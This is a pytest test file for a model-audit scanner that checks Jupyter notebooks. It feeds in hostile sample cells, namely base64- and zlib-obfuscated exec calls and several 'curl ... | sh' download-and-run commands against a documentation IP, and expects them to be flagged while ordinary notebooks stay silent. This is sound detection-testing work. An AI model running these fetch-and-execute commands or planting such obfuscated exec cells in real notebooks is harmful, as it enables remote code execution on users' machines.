"""Notebooks: what their cells do is found, whatever way they are written; ordinary ones are silent."""

import json

import pytest

from modelaudit.blob import BytesBlob, Place
from modelaudit.engine import inspect
from modelaudit.model import Inspection, Severity


def notebook(*cells: str | list[str], outputs: list[object] | None = None) -> bytes:
    made = [
        {"cell_type": "code", "source": source, "metadata": {}, "outputs": outputs or [], "execution_count": None}
        for source in cells
    ]
    text = {"cell_type": "markdown", "source": ["os.system('words')"], "metadata": {}}
    return json.dumps({"cells": [text, *made], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def look(data: bytes, name: str = "train.ipynb") -> Inspection:
    return inspect(BytesBlob(data, Place(name)), uri=name)


def worst(found: Inspection) -> Severity | None:
    return max((finding.severity for finding in found.findings), key=lambda level: level.rank, default=None)


HOSTILE = {
    "decoded": ["import base64\nexec(base64.b64decode('cHJpbnQoMSk='))"],
    "lines": [["import base64, zlib\n", "exec(zlib.decompress(base64.b64decode('eJwrKMrMK9EwBgAJdAIU')))\n"]],
    "over cells": ["from base64 import b64decode as d", "run = exec", "run(d('cHJpbnQoMSk='))"],
    "command": ["!curl -s http://203.0.113.9/x.sh | sh"],
    "command of a cell": ["%%bash\ncurl -s http://203.0.113.9/x.sh | bash\n"],
    "command with a result": ["files = !curl -s http://203.0.113.9/x.sh | sh"],
    "over lines": ["!curl -s \\\n  http://203.0.113.9/x.sh \\\n  | sh\n"],
    "behind magic": ["%matplotlib inline\nimport os\nos.system('curl http://203.0.113.9/x | sh')"],
}


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("file", ["train.ipynb", "data"])
def test_what_cells_do_is_found(name: str, file: str) -> None:
    """Under any name: the content says that it is a notebook."""
    found = look(notebook(*HOSTILE[name]), file)
    assert "notebook" in found.formats
    level = worst(found)
    assert level is not None
    assert level.rank >= Severity.WARNING.rank


ORDINARY = {
    "plots": ["%matplotlib inline\nimport matplotlib.pyplot as plt", "plt.plot([1, 2])\nplt.show()"],
    "packages": ["!pip install torch\n%pip install numpy", "!nvidia-smi", "!ls -la data"],
    "lines": ["!pip install \\\n    torch \\\n    numpy\nx = 1"],
    "help": ["import numpy as np\nnp.array?", "?print"],
    "timing": ["%%time\nx = sum(range(10))", "%timeit x"],
    "other languages": ["%%html\n<b>bold</b>", "%%javascript\nalert(1)"],
    "nothing": ["", []],
    "download": ["import urllib.request\nurllib.request.urlretrieve('https://example.com/data.csv', 'data.csv')"],
    "loading": ["import torch\nmodel = torch.load('model.pt')\nmodel.eval()"],
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_notebooks_are_silent(name: str) -> None:
    """No critical, no warning, and read wholly."""
    found = look(notebook(*ORDINARY[name]))
    assert found.status == "scanned"
    assert worst(found) in (None, Severity.INFO)


def test_outputs_that_run_are_told() -> None:
    """As information; text and pictures are not."""
    html = {"output_type": "display_data", "data": {"text/html": ["<scr", "ipt>alert(1)</script>"]}}
    script = {"output_type": "display_data", "data": {"application/javascript": "alert(1)"}}
    plain = {"output_type": "display_data", "data": {"text/html": "<b>x</b>", "image/png": "iVBORw0KGgo="}}
    told = [[finding.rule for finding in look(notebook("1", outputs=[one])).findings] for one in (html, script, plain)]
    assert told == [["notebook-active-output"], ["notebook-active-output"], []]


@pytest.mark.parametrize("end", range(0, 300, 7))
def test_a_notebook_that_is_cut_off(end: int) -> None:
    """It is broken, or something else; never an error of ours."""
    data = notebook("print(1)")
    assert look(data[: len(data) - end]).status in ("scanned", "partial", "skipped")


@pytest.mark.parametrize(
    "data",
    [
        b'{"cells": 1, "nbformat": 4}',
        b'{"cells": [{"source": 7}], "nbformat": 4}',
        b'{"nbformat": 4, "cells": [' + b"[" * 100_000,
        b'{"cells": [], "nbformat": "4"}',
    ],
)
def test_what_only_looks_like_one(data: bytes) -> None:
    """It is said that it could not be read, or it is taken for configuration."""
    assert look(data).status in ("scanned", "partial")


def test_configuration_that_has_cells_is_none() -> None:
    """A word does not make a notebook."""
    assert "notebook" not in look(b'{"cells": 3, "model_type": "lstm"}', "config.json").formats
